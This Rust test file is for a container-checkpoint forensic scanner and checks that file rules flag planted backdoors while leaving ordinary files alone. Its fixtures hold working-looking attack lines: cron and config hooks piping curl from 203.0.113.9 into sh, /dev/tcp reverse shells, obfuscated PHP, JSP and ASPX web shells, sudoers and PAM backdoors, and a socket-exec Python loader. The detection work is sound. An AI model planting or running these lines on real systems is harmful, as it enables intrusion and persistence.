//! Rules about files (`FS`): what was planted is found, with the line that matters, and ordinary changes are no finding.

use cryoscope::Checkpoint;
use cryoscope::analysis::{Evidence, Finding, Scan, Selection, Severity};

use crate::archives::Members;
use crate::fixtures;

/// The findings of rules about files.
fn scan(checkpoint: &Checkpoint) -> Vec<Finding> {
    let mut selection = Selection::default();
    selection.only.push("FS".to_owned());
    Scan::run(checkpoint, &selection).findings
}

/// A container with these changes to its root file system: path, mode, contents.
fn with_changes(files: &[(&str, u32, &[u8])]) -> Vec<Finding> {
    let checkpoint = changed(files, b"[]");
    scan(&checkpoint)
}

fn changed(files: &[(&str, u32, &[u8])], deleted: &[u8]) -> Checkpoint {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, mode, contents) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(contents.len() as u64);
        header.set_mode(*mode);
        header.set_uid(0);
        // Long after the container was created.
        header.set_mtime(1_900_000_000);
        tar.append_data(&mut header, path.trim_start_matches('/'), *contents).unwrap();
    }
    let mut members = Members::of(&fixtures::path("forms-reference/podman-runc.tar"));
    members.set("rootfs-diff.tar", tar.into_inner().unwrap());
    members.set("deleted.files", deleted);
    Checkpoint::from_reader(members.tar().as_slice()).unwrap()
}

/// The header of an ELF file for x86-64.
fn elf() -> Vec<u8> {
    let mut header = vec![0_u8; 64];
    header[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    header[16] = 2;
    header[18] = 62;
    header[20] = 1;
    header[52] = 64;
    header
}

fn severity_of(findings: &[Finding], rule: &str, path: &str) -> Option<Severity> {
    let subject = |finding: &&Finding| finding.rule.id == rule && finding.subject.text() == path;
    findings.iter().find(subject).map(|finding| finding.severity)
}

#[test]
fn a_program_is_the_finding_of_its_process() {
    let checkpoint = Checkpoint::open(fixtures::archive_of("webapp-compromise")).unwrap();
    let findings = scan(&checkpoint);

    // The program of process 21 is that process's finding, so that what others find about it agrees.
    let miner = findings.iter().find(|finding| finding.subject.text() == "/tmp/.cache/.x/xmrig").unwrap();
    assert_eq!(miner.pid.map(|pid| pid.0), Some(21));
    assert!(miner.evidence.iter().any(|evidence| evidence.sha256.is_some()));
}

#[test]
fn the_line_that_matters_is_at_its_offset() {
    let path = fixtures::archive_of("webapp-compromise");
    let checkpoint = Checkpoint::open(&path).unwrap();
    let tar = Members::of(&path).get("rootfs-diff.tar").to_vec();
    for (rule, line) in [
        ("FS-004", "*/5 * * * * root curl -fsSL http://203.0.113.66/u.sh | sh # cryolab"),
        ("FS-002", "sysadm:x:0:0:System Administrator:/root:/bin/bash"),
        ("FS-001", "/usr/local/lib/libsysaudit.so"),
        ("FS-013", "history -c"),
    ] {
        let findings = scan(&checkpoint);
        let evidence = findings.iter().filter(|finding| finding.rule.id == rule).flat_map(|finding| &finding.evidence);
        // A line may also have been typed: then it is in memory, too.
        let is_in_file =
            |evidence: &&Evidence| evidence.member.as_ref().is_some_and(|member| member == "rootfs-diff.tar");
        let has_line = |evidence: &&Evidence| evidence.text.as_ref().is_some_and(|text| text == line);
        let found = evidence.filter(is_in_file).filter(has_line).collect::<Vec<_>>();
        let [found] = found.as_slice() else { panic!("{rule}: {found:?}") };
        let at = usize::try_from(found.member_offset.unwrap()).unwrap();
        assert_eq!(&tar[at..at + line.len()], line.as_bytes(), "{rule}");
        assert!(found.archive_offset.is_some(), "{rule}");
    }
}

/// A rule, the file that it finds: path, mode, contents; and the least severity.
type Case<'c> = (&'c str, &'c str, u32, &'c [u8], Severity);

/// Each file is found by its rule, at least as severe as said.
fn finds(cases: &[Case<'_>], others: &[(&str, u32, &[u8])]) {
    let files: Vec<(&str, u32, &[u8])> =
        cases.iter().map(|(_, path, mode, contents, _)| (*path, *mode, *contents)).collect();
    let findings = with_changes(&[files.as_slice(), others].concat());
    for (rule, path, _, _, least) in cases {
        let found = severity_of(&findings, rule, path);
        assert!(found >= Some(*least), "{rule} {path}: {found:?}");
    }
}

#[test]
fn other_ways_to_come_back_are_found() {
    let elf = elf();
    // Behind the header of a picture, or behind blanks.
    let late = [vec![b' '; 5000], b"<?php system($_GET['c']); ?>".to_vec()].concat();
    let cases: &[Case<'_>] = &[
        ("FS-002", "/etc/sudoers.d/x", 0o440, b"www-data ALL=(ALL) NOPASSWD: ALL\n", Severity::High),
        ("FS-004", "/var/spool/cron/crontabs/root", 0o600, b"@reboot /dev/shm/.a/run\n", Severity::High),
        (
            "FS-004",
            "/etc/cron.daily/update",
            0o755,
            b"#!/bin/sh\nwget -qO- http://203.0.113.9/a | sh\n",
            Severity::High,
        ),
        (
            "FS-005",
            "/etc/systemd/system/dbus-helper.service",
            0o644,
            b"[Service]\nExecStart=/var/tmp/.d/helper\n",
            Severity::High,
        ),
        (
            "FS-006",
            "/root/.bashrc",
            0o644,
            b"alias ls='ls -a'\n(bash -i >& /dev/tcp/203.0.113.9/1 0>&1 &)\n",
            Severity::High,
        ),
        ("FS-006", "/etc/profile.d/z.sh", 0o644, b"export PATH=/tmp/.b:$PATH\n", Severity::High),
        ("FS-007", "/lib/x86_64-linux-gnu/security/pam_unixx.so", 0o644, &elf, Severity::High),
        ("FS-007", "/etc/pam.d/sshd", 0o644, b"auth sufficient pam_permit.so\n", Severity::High),
        ("FS-008", "/usr/lib/x86_64-linux-gnu/libx.so", 0o644, &elf, Severity::Medium),
        ("FS-008", "/var/www/html/uploads/a", 0o755, &elf, Severity::High),
        ("FS-008", "/tmp/a", 0o755, &elf, Severity::High),
        ("FS-009", "/usr/sbin/sshd", 0o755, &elf, Severity::High),
        ("FS-009", "/usr/local/bin/ps", 0o755, b"#!/bin/sh\n/usr/bin/ps \"$@\" | grep -v miner\n", Severity::High),
        ("FS-010", "/usr/bin/find2", 0o4755, &elf, Severity::High),
        ("FS-011", "/var/www/html/a.php", 0o644, b"<?php @eval($_POST['x']); ?>", Severity::High),
        ("FS-011", "/var/www/html/logo.jpg", 0o644, b"GIF89a<?php system($_GET['c']); ?>", Severity::High),
        ("FS-011", "/var/www/html/late.php", 0o644, &late, Severity::High),
        ("FS-011", "/var/www/html/late.jpg", 0o644, &late, Severity::High),
        (
            "FS-011",
            "/opt/tomcat/webapps/ROOT/s.jsp",
            0o644,
            b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
            Severity::High,
        ),
        ("FS-012", "/var/www/html/uploads/photo.php.jpg", 0o644, b"hello, this is text", Severity::Medium),
        ("FS-021", "/usr/lib/python3/dist-packages/a.pth", 0o644, b"import os; os.system('id')\n", Severity::High),
        (
            "FS-026",
            "/tmp/kc",
            0o600,
            b"apiVersion: v1\nkind: Config\nclusters:\n- a\nusers:\n- user:\n    token: x\n",
            Severity::High,
        ),
        (
            "FS-028",
            "/etc/apt/apt.conf.d/98x",
            0o644,
            b"APT::Update::Pre-Invoke {\"curl http://203.0.113.9/x | sh\"};\n",
            Severity::High,
        ),
        ("FS-028", "/srv/site/.git/hooks/post-merge", 0o755, b"#!/bin/sh\n/tmp/.x/run\n", Severity::High),
        ("FS-028", "/var/www/html/.htaccess", 0o644, b"AddType application/x-httpd-php .jpg\n", Severity::High),
    ];
    finds(cases, &[]);
}

#[test]
fn places_that_are_seldom_looked_at() {
    let elf = elf();
    let cases: &[Case<'_>] = &[
        ("FS-028", "/etc/nginx/nginx.conf", 0o644, b"load_module /usr/lib/.k/x.so;\n", Severity::High),
        ("FS-028", "/etc/php/8.4/cli/conf.d/99-x.ini", 0o644, b"extension=/tmp/x.so\n", Severity::High),
        ("FS-028", "/etc/ssl/openssl.cnf", 0o644, b"[x]\ndynamic_path = /dev/shm/e.so\n", Severity::High),
        (
            "FS-028",
            "/etc/logrotate.d/x",
            0o644,
            b"/var/log/x {\n postrotate\n  curl http://203.0.113.9/x | sh\n endscript\n}\n",
            Severity::High,
        ),
        ("FS-028", "/root/.vimrc", 0o644, b"autocmd BufRead * silent !curl http://203.0.113.9/v | sh\n", Severity::High),
        ("FS-028", "/root/.ssh/config", 0o644, b"Host *\n ProxyCommand /tmp/.p %h\n", Severity::High),
        ("FS-028", "/var/lib/dpkg/info/curl.postinst", 0o755, b"#!/bin/sh\n/tmp/.x/run\n", Severity::High),
        ("FS-004", "/etc/anacrontab", 0o644, b"SHELL=/bin/sh\n1 5 daily.x /usr/lib/.k/agent\n", Severity::High),
        ("FS-004", "/etc/cron.d/x", 0o644, b"5 1 * * * root /usr/local/sbin/fetch\n", Severity::High),
        (
            "FS-003",
            "/home/dev/.ssh/authorized_keys",
            0o600,
            b"command=\"bash -i >& /dev/tcp/203.0.113.9/1 0>&1\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICryoLab a\n",
            Severity::High,
        ),
        ("FS-003", "/etc/ssh/sshd_config", 0o644, b"AuthorizedKeysFile /etc/ssh/.keys/%u\n", Severity::High),
        ("FS-003", "/etc/ssh/sshd_config.d/1.conf", 0o644, b"PermitRootLogin yes\n", Severity::Medium),
        // The module is among the changes, and named without its directory.
        ("FS-007", "/etc/pam.d/login", 0o644, b"auth sufficient pam_unixx.so\n", Severity::High),
        (
            "FS-011",
            "/var/www/html/uploads/c.php",
            0o644,
            b"<?php $x=str_rot13(\"flfgrz\"); @$x($_POST[0]);",
            Severity::High,
        ),
        (
            "FS-011",
            "/var/www/html/s.php",
            0o644,
            b"<?php class A{function __destruct(){ ($this->a)($this->b);} } unserialize(base64_decode($_SERVER[\"HTTP_X_A\"]));",
            Severity::High,
        ),
    ];
    // What the job of cron and the rules for logins name.
    let others: [(&str, u32, &[u8]); 2] = [
        ("/usr/local/sbin/fetch", 0o755, b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"),
        ("/lib/x86_64-linux-gnu/security/pam_unixx.so", 0o644, &elf),
    ];
    finds(cases, &others);
}

#[test]
fn settings_and_pages_of_other_programs_are_read() {
    let elf = elf();
    let cases: &[Case<'_>] = &[
        (
            "FS-011",
            "/srv/app/run.py",
            0o644,
            b"from flask import request\nimport os\nos.popen(request.args['c'])\n",
            Severity::High,
        ),
        ("FS-011", "/var/www/html/a.aspx", 0o644, b"<%eval(Request.Item[\"p\"],\"unsafe\");%>", Severity::High),
        (
            "FS-011",
            "/etc/nginx/conf.d/l.conf",
            0o644,
            b"content_by_lua_block { ngx.say(io.popen(ngx.var.arg_c):read('*a')) }\n",
            Severity::High,
        ),
        // A script that has no name of one, and is where no pages are.
        (
            "FS-011",
            "/var/lib/php/sessions/sess_a",
            0o600,
            b"<?php $f = $_COOKIE['a']; eval(gzinflate($f));",
            Severity::High,
        ),
        (
            "FS-035",
            "/etc/php/8.4/fpm/conf.d/9.ini",
            0o644,
            b"auto_prepend_file=/var/lib/php/sessions/sess_a\n",
            Severity::High,
        ),
        ("FS-035", "/etc/php/8.4/cli/conf.d/15-j.ini", 0o644, b"extension=json_core.so\n", Severity::Medium),
        (
            "FS-035",
            "/etc/nginx/sites-available/default",
            0o644,
            b"location /h { proxy_pass http://unix:/run/.x.sock; }\n",
            Severity::High,
        ),
        ("FS-035", "/root/.npmrc", 0o644, b"script-shell=/usr/share/x/update\n", Severity::High),
        ("FS-035", "/etc/hosts.equiv", 0o644, b"+ +\n", Severity::High),
        ("FS-035", "/etc/environment", 0o644, b"NODE_OPTIONS=--require=/usr/lib/node/hook.js\n", Severity::High),
        ("FS-036", "/root/.bash_history", 0o600, b"nsenter -t 1 -m sh\nmount /dev/vda1 /mnt\n", Severity::High),
        (
            "FS-004",
            "/var/spool/cron/crontabs/root",
            0o600,
            b"@reboot /usr/bin/python3 /usr/lib/python3/u.py\n",
            Severity::High,
        ),
        ("FS-002", "/etc/group", 0o644, b"root:x:0:\nsudo:x:27:games\n", Severity::High),
        (
            "FS-026",
            "/var/www/html/s.txt",
            0o644,
            b"root:*:20000:0:99999:7:::\na:$6$x$y:20000:0:99999:7:::\nb:*:20000:0:99999:7:::\n",
            Severity::High,
        ),
    ];
    let others: [(&str, u32, &[u8]); 4] = [
        ("/usr/lib/php/20240924/json_core.so", 0o644, &elf),
        ("/usr/share/x/update", 0o755, b"#!/bin/sh\ncurl -s http://203.0.113.9/u | sh\n"),
        ("/usr/lib/node/hook.js", 0o644, b"require('child_process').exec('curl -s http://203.0.113.9/n|sh')\n"),
        ("/usr/lib/python3/u.py", 0o644, b"import os;exec(__import__('base64').b64decode('eJw='))\n"),
    ];
    finds(cases, &others);
}

#[test]
fn what_only_quotes_a_web_shell_is_quiet() {
    let findings = with_changes(&[
        ("/tmp/waf/audit.log", 0o644, b"blocked: <?php @eval($_POST[\"x\"]); ?> from 192.0.2.4\n"),
        ("/tmp/test_security.py", 0o644, b"PAYLOADS = [\"<?php system($_GET[0]); ?>\"]\n"),
        ("/opt/rules/shells.yar", 0o644, b"rule x { strings: $a = \"eval(base64_decode($_POST\" condition: $a }\n"),
    ]);
    assert!(findings.iter().all(|finding| finding.rule.id != "FS-011"), "{findings:#?}");
}

#[test]
fn files_that_packages_and_entry_points_write_are_quiet() {
    let elf = elf();
    let list = b"/.\n/usr\n/usr/bin\n/usr/bin/sudo\n/usr/bin/curl\n/lib/x86_64-linux-gnu/libcurl.so.4\n/usr/sbin/sshd\n/etc/cron.daily/dpkg\n\
        /etc/pam.d/sudo\n/etc/profile.d/x.sh\n/lib/systemd/system/ssh.service\n/usr/lib/x86_64-linux-gnu/security/pam_x.so\n";
    let findings = with_changes(&[
        ("/var/lib/dpkg/info/all.list", 0o644, list),
        ("/var/lib/dpkg/status", 0o644, b"Package: all\n"),
        ("/usr/bin/sudo", 0o4755, &elf),
        ("/usr/bin/curl", 0o755, &elf),
        ("/usr/lib/x86_64-linux-gnu/libcurl.so.4", 0o644, &elf),
        ("/usr/sbin/sshd", 0o755, &elf),
        ("/etc/cron.daily/dpkg", 0o755, b"#!/bin/sh\ncd /var/backups\n"),
        ("/etc/pam.d/sudo", 0o644, b"@include common-auth\n"),
        ("/usr/lib/systemd/system/ssh.service", 0o644, b"[Service]\nExecStart=/usr/sbin/sshd -D\n"),
        ("/lib/x86_64-linux-gnu/security/pam_x.so", 0o644, &elf),
        ("/etc/passwd", 0o644, b"root:x:0:0:root:/root:/bin/bash\nada:x:1000:1000::/home/ada:/bin/sh\n1000:*:1000:1000::/:/bin/sh\n"),
        ("/etc/shadow", 0o640, b"root:*:20000:0:99999:7:::\nada:!:20000:0:99999:7:::\n"),
        ("/home/ada/.bashrc", 0o644, b"case $- in *i*) ;; *) return;; esac\nalias ll='ls -l'\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n"),
        ("/srv/app/server", 0o755, &elf),
        ("/srv/app/app.py", 0o644, b"import subprocess\nsubprocess.run('true ' + q['host'][0], shell=True)\n"),
        ("/var/www/html/index.php", 0o644, b"<?php $id = (int) $_GET['id']; echo htmlspecialchars($id);"),
        ("/tmp/.X11-unix/X0", 0o777, b""),
        ("/tmp/Caddyfile", 0o644, b":80\n"),
        ("/root/.vscode-server/bin/node", 0o755, &elf),
        ("/usr/lib/python3/dist-packages/distutils-precedence.pth", 0o644, b"import os; var = 'S'; enabled = os.environ.get(var, 'local') == 'local'\n"),
        ("/etc/hosts", 0o644, b"127.0.0.1 localhost\n10.0.0.1 db\n"),
        ("/var/log/app.log", 0o644, b"started\n"),
        ("/etc/php/8.4/cli/conf.d/20-curl.ini", 0o644, b"extension=curl.so\nopcache.preload=/srv/app/preload.php\n"),
        ("/etc/logrotate.d/app", 0o644, b"/var/log/app.log {\n daily\n postrotate\n  kill -HUP 1\n endscript\n}\n"),
        ("/home/ada/.ssh/config", 0o600, b"Host *\n  ProxyCommand nc -X connect %h %p\n  LocalCommand echo hello\n"),
        ("/home/ada/.vimrc", 0o644, b"set number\nautocmd FileType python set ts=4\nnmap <F5> :!python3 %<CR>\n"),
        ("/var/www/html/hooks.php", 0o644, b"<?php foreach ($filters as $f) { $v = $f($value); } ($this->run)($this->x);"),
    ]);
    let loud: Vec<_> = findings
        .iter()
        .filter(|finding| finding.severity >= Severity::Medium)
        .map(|finding| &finding.sentence)
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
    assert_eq!(severity_of(&findings, "FS-017", "packages"), Some(Severity::Low));
    assert!(findings.len() <= 6, "{:#?}", findings.iter().map(|finding| &finding.sentence).collect::<Vec<_>>());
}

#[test]
fn a_package_database_does_not_cover_files_that_everyone_may_write_to() {
    let elf = elf();
    let findings =
        with_changes(&[("/var/lib/dpkg/info/all.list", 0o644, b"/tmp/.x/run\n"), ("/tmp/.x/run", 0o755, &elf)]);
    assert_eq!(severity_of(&findings, "FS-008", "/tmp/.x/run"), Some(Severity::High));
}

#[test]
fn files_that_were_encrypted_are_found_by_their_number_and_their_note() {
    let mut state: u32 = 7;
    let random: Vec<u8> = (0..2048)
        .map(|_| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            state.to_be_bytes()[0]
        })
        .collect();
    let names: Vec<String> = (0..60).map(|number| format!("/data/doc{number}.pdf.locked")).collect();
    let mut files: Vec<(&str, u32, &[u8])> =
        names.iter().map(|name| (name.as_str(), 0o644, random.as_slice())).collect();
    files.push(("/data/README_DECRYPT.txt", 0o644, b"pay"));
    let deleted: Vec<String> = (0..60).map(|number| format!("/data/doc{number}.pdf")).collect();
    let findings = scan(&changed(&files, &serde_json::to_vec(&deleted).unwrap()));
    let worst = findings.iter().find(|finding| finding.rule.id == "FS-027").map(|finding| finding.severity);
    assert_eq!(worst, Some(Severity::Critical));
    // Without a note, and with the originals still there, it is a converter.
    let findings = with_changes(&files[..60]);
    assert!(findings.iter().all(|finding| finding.rule.id != "FS-027"));
}

#[test]
fn ordinary_containers_are_quiet() {
    for case in ["real-sshd", "bridge-net", "crio-logs", "pod", "exec-into", "containerd2-logs", "mounts", "counters"] {
        for archive in fixtures::archives_of(case) {
            let findings = scan(&Checkpoint::open(&archive).unwrap());
            let loud: Vec<_> = findings
                .iter()
                .filter(|finding| finding.severity >= Severity::Medium)
                .map(|finding| &finding.sentence)
                .collect();
            assert!(loud.is_empty(), "{case}: {loud:#?}");
        }
    }
}

#[test]
fn identities_do_not_depend_on_the_order_of_files() {
    let files: &[(&str, u32, &[u8])] = &[
        ("/etc/passwd", 0o644, b"a:x:0:0::/:/bin/sh\n"),
        ("/etc/ld.so.preload", 0o644, b"/tmp/a.so\n"),
        ("/etc/cron.d/x", 0o644, b"* * * * * root /tmp/a\n"),
    ];
    let ids = |files: &[(&str, u32, &[u8])]| {
        let mut ids: Vec<String> = with_changes(files).iter().map(Finding::id).collect();
        ids.sort();
        ids
    };
    let mut turned = files.to_vec();
    turned.reverse();
    assert_eq!(ids(files), ids(&turned));
}

#[test]
fn modules_of_interpreters_that_no_package_changed_are_told() {
    const MODULE: &str = "/usr/lib/python3.13/mimetypes.py";
    let with = |lines: &str, more: &[(&str, u32, &[u8])]| {
        let mut files = vec![(MODULE, 0o644, lines.as_bytes())];
        files.extend_from_slice(more);
        with_changes(&files)
    };
    let active = "import socket\ns=socket.create_connection(('203.0.113.66',443))\nwhile 1: exec(s.recv(9))\n";
    assert_eq!(severity_of(&with(active, &[]), "FS-037", MODULE), Some(Severity::High));
    let plain = with("import os\n", &[]);
    assert_eq!(severity_of(&plain, "FS-037", "Python"), Some(Severity::Medium));
    let listed: &[(&str, u32, &[u8])] =
        &[("/var/lib/dpkg/info/libpython3.13-stdlib.list", 0o644, b"/usr/lib/python3.13/mimetypes.py\n")];
    assert!(!with(active, listed).iter().any(|finding| finding.rule.id == "FS-037"), "a package has it");
    let own = with_changes(&[("/srv/app/mimetypes.py", 0o644, active.as_bytes())]);
    assert!(!own.iter().any(|finding| finding.rule.id == "FS-037"));
}
